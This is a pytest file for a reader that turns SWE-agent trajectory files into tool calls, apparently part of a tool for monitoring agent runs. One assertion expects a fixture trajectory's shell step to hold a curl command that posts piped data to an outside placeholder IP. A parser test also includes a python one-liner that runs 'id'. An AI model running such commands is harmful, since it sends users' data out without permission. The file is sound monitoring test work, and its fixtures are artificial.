"""SWE-agent .traj reader."""

from __future__ import annotations

import pytest

from watchkeeper.trajectories import ToolKind
from watchkeeper.trajectories.swe_agent import action_call


def test_traj_file(data, read_one, calls):
    path = data / "swe_agent" / "django__django-11099.traj"
    traj = read_one(path)
    assert traj.id == "django__django-11099"
    assert traj.source == str(path)
    assert traj.metadata == {"exit_status": "submitted", "swe_agent_version": "0.7.0"}
    assert len(traj.steps) == 6
    found, opened, edited, created, shell, submit = calls(traj)
    assert (found.kind, found.name) == (ToolKind.OTHER, "find_file")
    assert found.output.startswith("Found 1 matches")
    assert (opened.kind, opened.path) == (ToolKind.FILE_READ, "django/contrib/auth/validators.py")
    assert edited.kind is ToolKind.FILE_EDIT
    assert edited.path == "/django/django/contrib/auth/validators.py"  # from state.open_file
    assert edited.content == "    regex = r'\\A[\\w.@+-]+\\Z'"
    assert (created.kind, created.path) == (ToolKind.FILE_WRITE, "/django/reproduce.py")
    assert created.content.startswith("from django.contrib.auth.validators import")
    assert shell.kind is ToolKind.SHELL
    assert "curl -s -X POST --data-binary @- http://192.0.2.44/c" in shell.command
    assert (submit.kind, submit.name) == (ToolKind.OTHER, "submit")
    assert all(s.ts is None for s in traj.steps)


@pytest.mark.parametrize(
    ("action", "kind", "field", "value"),
    [
        ("ls -la\n", ToolKind.SHELL, "command", "ls -la"),
        ("str_replace_editor view /a/b.py", ToolKind.FILE_READ, "path", "/a/b.py"),
        ("str_replace_editor str_replace /a.py --old_str 'x = 1' --new_str 'x = 2'",
         ToolKind.FILE_EDIT, "content", "x = 2"),
        ("str_replace_editor insert /a.py --insert_line 3 --new_str 'import os'",
         ToolKind.FILE_EDIT, "content", "import os"),
        ("str_replace_editor create /a.py --file_text 'unterminated", ToolKind.FILE_EDIT,
         "content", "str_replace_editor create /a.py --file_text 'unterminated"),
        ("create new_file.py", ToolKind.FILE_WRITE, "path", "new_file.py"),
        ("open \"src/my file.py\"", ToolKind.FILE_READ, "path", "src/my file.py"),
        ("insert 5\nprint('hi')\nend_of_insert", ToolKind.FILE_EDIT, "content", "print('hi')"),
        ("scroll_down", ToolKind.OTHER, "name", "scroll_down"),
        ("python -c 'import os; os.system(\"id\")'", ToolKind.SHELL, "name", "bash"),
    ],
)
def test_action_call(action, kind, field, value):
    call = action_call(action, {"open_file": "/repo/x.py"})
    assert call is not None
    assert call.kind is kind
    assert getattr(call, field) == value
    assert call.arguments_text == action


def test_empty_action_is_no_call():
    assert action_call("  \n", {}) is None
